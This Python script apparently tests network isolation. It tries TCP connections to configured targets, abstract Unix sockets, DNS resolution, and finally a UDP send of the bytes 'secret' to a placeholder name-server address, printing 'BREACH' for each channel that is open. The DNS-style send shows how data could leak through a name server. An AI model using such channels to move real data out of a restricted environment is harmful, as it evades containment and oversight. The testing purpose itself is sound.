import os
import socket

for target in os.environ["PARAM_TARGETS"].split(","):
    host, _, port = target.rpartition(":")
    try:
        socket.create_connection((host.strip("[]"), int(port)), 2).close()
        print("BREACH", target)
    except OSError as error:
        print("refused", target, error)
for path in os.environ["PARAM_SOCKETS"].split(","):
    with socket.socket(socket.AF_UNIX) as connection:
        try:
            connection.connect(path.replace("@", "\0"))
            print("BREACH", path)
        except OSError as error:
            print("refused", path, error)
try:
    socket.getaddrinfo(os.environ["PARAM_NAME"], 80)
    print("BREACH", os.environ["PARAM_NAME"])
except OSError as error:
    print("refused", os.environ["PARAM_NAME"], error)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
    # A question to a name server carries data out as well as an answer carries it in.
    try:
        datagram.sendto(b"secret", ("192.0.2.1", 53))
        print("BREACH datagram")
    except OSError as error:
        print("refused datagram", error)
